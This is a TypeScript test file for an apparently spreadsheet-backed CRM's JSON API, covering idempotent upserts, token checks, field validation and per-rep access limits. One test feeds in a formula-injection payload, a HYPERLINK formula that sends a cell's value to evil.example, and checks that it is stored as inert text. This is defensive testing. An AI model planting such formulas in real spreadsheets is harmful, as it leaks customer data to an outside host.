import { MANAGER, OWNER, SALES_A, SALES_B } from "../../../src/local/faults/fixture";
import { auditRows } from "../trust/harness";
import { formulaOf, loadWebAppBook, rowsOf } from "./harness";

const isDate = (v: unknown) => Object.prototype.toString.call(v) === "[object Date]";

/** The inbound API (doPost, JSON) through the team's "execute as me" deployment, anonymous caller. */
describe("inbound API", () => {
  const book = () => {
    const b = loadWebAppBook();
    const all = b.loaded.run("createApiToken", "ERP", "");
    const rep = b.loaded.run("createApiToken", "Li's site", SALES_A);
    const call = (token: string, body: Record<string, unknown>) => {
      const res = b.asMe.post({ token, ...body });
      expect(res.contentType).toMatch(/^application\/json/);
      expect(res.status).toBe(200);
      return JSON.parse(res.body);
    };
    return { ...b, all: all.token as string, rep: rep.token as string, call };
  };

  it("creates, then updates a customer; the same idempotency key twice is applied once with the same answer", () => {
    const b = book();
    const before = rowsOf(b.loaded, "Customers").length;
    const created = b.call(b.all, {
      idempotencyKey: "k1",
      table: "customers",
      rows: [{ Name: "Acme 上海", Email: "buyer@acme.example", Phone: "13800138000", 客户类型: "VIP" }],
    });
    expect(created).toMatchObject({ ok: true, replayed: false, results: [{ row: 0, action: "created" }] });
    const id = created.results[0].id;
    expect(id).toBe("C0013");
    const rows = rowsOf(b.loaded, "Customers");
    expect(rows).toHaveLength(before + 1);
    const row = rows.find((r) => r.CustomerID === id)!;
    expect(row).toMatchObject({ Name: "Acme 上海", Email: "buyer@acme.example", CustomerType: "VIP" });
    expect(isDate(row.CreatedAt)).toBe(true);

    const again = b.call(b.all, {
      idempotencyKey: "k1",
      table: "customers",
      rows: [{ Name: "Acme 上海", Email: "buyer@acme.example", Phone: "13800138000", 客户类型: "VIP" }],
    });
    expect(again).toEqual({ ...created, replayed: true });
    expect(rowsOf(b.loaded, "Customers")).toHaveLength(before + 1);

    // Matched by e-mail: an update, only the changed cell (and UpdatedAt) written.
    const updated = b.call(b.all, {
      idempotencyKey: "k2",
      table: "customers",
      rows: [{ Email: "BUYER@acme.example", Region: "杭州" }],
    });
    expect(updated.results).toEqual([{ row: 0, action: "updated", id }]);
    expect(rowsOf(b.loaded, "Customers").find((r) => r.CustomerID === id)!.Region).toBe("杭州");
    expect(rowsOf(b.loaded, "Customers")).toHaveLength(before + 1);

    // The same key with another request is refused and changes nothing.
    const conflict = b.call(b.all, {
      idempotencyKey: "k2",
      table: "customers",
      rows: [{ Email: "buyer@acme.example", Region: "x" }],
    });
    expect(conflict).toMatchObject({ ok: false, status: 409, code: "idempotency-conflict" });
    expect(rowsOf(b.loaded, "Customers").find((r) => r.CustomerID === id)!.Region).toBe("杭州");

    const audit = auditRows(b.loaded).filter((r) => r.includes("api-upsert"));
    expect(audit).toHaveLength(2);
    expect(audit.join("\n")).toMatch(/api:ERP/);
  });

  it("refuses a missing, unknown or revoked token and writes nothing", () => {
    const b = book();
    const snapshot = JSON.stringify(rowsOf(b.loaded, "Customers"));
    const body = { idempotencyKey: "k", table: "customers", rows: [{ Name: "x", Email: "x@x.example" }] };
    expect(b.call("", body)).toMatchObject({ ok: false, status: 401, code: "no-token" });
    expect(
      b.call("scrm_0000000000000000000000000000000000000000000000000000000000000000", body),
    ).toMatchObject({
      ok: false,
      status: 401,
      code: "bad-token",
    });
    const [erp] = b.loaded.run("listApiTokens");
    b.loaded.run("revokeApiToken", erp.id);
    expect(b.call(b.all, body)).toMatchObject({ ok: false, status: 401, code: "bad-token" });
    expect(JSON.stringify(rowsOf(b.loaded, "Customers"))).toBe(snapshot);
    // Only the hash is kept: the token appears nowhere in the document's properties.
    expect([...b.loaded.emulator.properties.document.values()].join("\n")).not.toContain(b.all);
  });

  it("answers bad fields with an error per row and field, and writes none of the call", () => {
    const b = book();
    const before = rowsOf(b.loaded, "Customers").length;
    const res = b.call(b.all, {
      idempotencyKey: "bad",
      table: "customers",
      rows: [
        { Name: "Good", Email: "good@x.example" },
        {
          Name: "Bad",
          Email: "not-an-address",
          Age: 200,
          Colour: "red",
          Segment: "Champions",
          CustomerType: "Alien",
        },
      ],
    });
    expect(res).toMatchObject({ ok: false, status: 400, code: "invalid" });
    const byField = Object.fromEntries(
      res.errors.map((e: { field: string; code: string; row: number }) => [e.field, [e.row, e.code]]),
    );
    expect(byField).toEqual({
      Colour: [1, "unknown-field"],
      Segment: [1, "read-only"],
    });
    // Fields that map are judged once the unknown ones are gone: the table's own rules, per field.
    const res2 = b.call(b.all, {
      idempotencyKey: "bad2",
      table: "customers",
      rows: [
        { Name: "Good", Email: "good@x.example" },
        { Name: "Bad", Email: "not-an-address", Age: 200, CustomerType: "Alien" },
      ],
    });
    const fields = res2.errors.map((e: { row: number; field: string; code: string; message: string }) => [
      e.row,
      e.field,
      e.code,
    ]);
    expect(fields).toEqual(
      expect.arrayContaining([
        [1, "Email", "email"],
        [1, "Age", "range"],
        [1, "CustomerType", "enum"],
      ]),
    );
    expect(res2.errors.every((e: { message: string }) => e.message.length > 0)).toBe(true);
    expect(rowsOf(b.loaded, "Customers")).toHaveLength(before);
    // Shape and limits are checked before anything is read.
    expect(
      b.call(b.all, {
        idempotencyKey: "big",
        table: "customers",
        rows: Array.from({ length: 101 }, () => ({ Name: "n" })),
      }),
    ).toMatchObject({
      ok: false,
      status: 413,
      code: "too-many-rows",
    });
    expect(JSON.parse(b.asMe.post("{not json").body)).toMatchObject({ ok: false, code: "bad-json" });
  });

  it("keeps a formula sent in a field as text, and says so", () => {
    const b = book();
    const evil = '=HYPERLINK("http://evil.example/?"&B2,"click")';
    const res = b.call(b.all, {
      idempotencyKey: "f",
      table: "customers",
      rows: [{ Name: "Formula Ltd", Email: "f@f.example", Notes: evil, Tags: "+1-SUM(A1)" }],
    });
    expect(res.ok).toBe(true);
    expect(res.neutralised).toEqual([{ row: 0, field: "Notes" }]);
    const id = res.results[0].id;
    expect(formulaOf(b.loaded, "Customers", id, "Notes")).toBe("");
    expect(formulaOf(b.loaded, "Customers", id, "Tags")).toBe("");
    const row = rowsOf(b.loaded, "Customers").find((r) => r.CustomerID === id)!;
    expect(row.Notes).toBe(evil);
    expect(row.Tags).toBe("+1-SUM(A1)");
  });

  it("a rep's token reaches only the rep's customers", () => {
    const b = book();
    const customers = rowsOf(b.loaded, "Customers");
    const theirs = customers.find((r) => r.Owner === SALES_B)!;
    const mine = customers.find((r) => r.Owner === SALES_A)!;
    const before = JSON.stringify(customers);
    const other = b.call(b.rep, {
      idempotencyKey: "r1",
      table: "customers",
      rows: [{ CustomerID: theirs.CustomerID, Notes: "mine now" }],
    });
    expect(other).toMatchObject({
      ok: false,
      code: "invalid",
      errors: [{ row: 0, field: "CustomerID", code: "forbidden" }],
    });
    const byEmail = b.call(b.rep, {
      idempotencyKey: "r2",
      table: "customers",
      rows: [{ Email: theirs.Email, Notes: "x" }],
    });
    expect(byEmail.errors[0].code).toBe("forbidden");
    const order = b.call(b.rep, {
      idempotencyKey: "r3",
      table: "orders",
      rows: [
        { CustomerID: theirs.CustomerID, OrderID: "W1", OrderDate: "2026-11-20", Product: "Tea", Amount: 10 },
      ],
    });
    expect(order.errors[0]).toMatchObject({ field: "CustomerID", code: "unknown-customer" });
    const handOver = b.call(b.rep, {
      idempotencyKey: "r4",
      table: "customers",
      rows: [{ Name: "New", Email: "n@n.example", Owner: SALES_B }],
    });
    expect(handOver.errors[0]).toMatchObject({ field: "Owner", code: "forbidden-owner" });
    expect(JSON.stringify(rowsOf(b.loaded, "Customers"))).toBe(before);

    // Their own customer, an order and an interaction for it; a new customer is theirs.
    const ok = b.call(b.rep, {
      idempotencyKey: "r5",
      table: "customers",
      rows: [
        { CustomerID: mine.CustomerID, Notes: "called" },
        { Name: "Lead", Email: "lead@l.example" },
      ],
    });
    expect(ok.results.map((r: { action: string }) => r.action)).toEqual(["updated", "created"]);
    expect(rowsOf(b.loaded, "Customers").find((r) => r.CustomerID === ok.results[1].id)!.Owner).toBe(SALES_A);
    const o = b.call(b.rep, {
      idempotencyKey: "r6",
      table: "orders",
      rows: [
        {
          CustomerID: mine.CustomerID,
          OrderID: "W2",
          OrderDate: "2026-11-20",
          Product: "Tea",
          Quantity: 2,
          Amount: 99.5,
          PaymentStatus: "Paid",
        },
      ],
    });
    expect(o.results).toEqual([{ row: 0, action: "created", id: "W2" }]);
    const orderRow = rowsOf(b.loaded, "Orders").find((r) => r.OrderID === "W2")!;
    expect(isDate(orderRow.OrderDate)).toBe(true);
    expect(orderRow.Amount).toBe(99.5);
    const i = b.call(b.rep, {
      idempotencyKey: "r7",
      table: "interactions",
      rows: [{ CustomerID: mine.CustomerID, Date: "2026-11-21", Summary: "visit", Type: "Enquiry" }],
    });
    expect(i.ok).toBe(true);
    expect(rowsOf(b.loaded, "Interactions").at(-1)).toMatchObject({
      CustomerID: mine.CustomerID,
      Owner: SALES_A,
      Summary: "visit",
    });
  });

  it("only owners and managers manage tokens; a rep cannot", () => {
    const b = loadWebAppBook();
    b.loaded.emulator.setUser(SALES_A);
    expect(() => b.loaded.run("createApiToken", "mine", SALES_A)).toThrow(/does not allow/);
    b.loaded.emulator.setUser(MANAGER);
    expect(b.loaded.run("createApiToken", "ok", "").token).toMatch(/^scrm_[0-9a-f]{64}$/);
    expect(() => b.loaded.run("createApiToken", "x", "stranger@else.example")).toThrow(/not a team member/);
    b.loaded.emulator.setUser(OWNER);
    expect(b.loaded.run("listApiTokens").map((t: { name: string }) => t.name)).toEqual(["ok"]);
  });
});
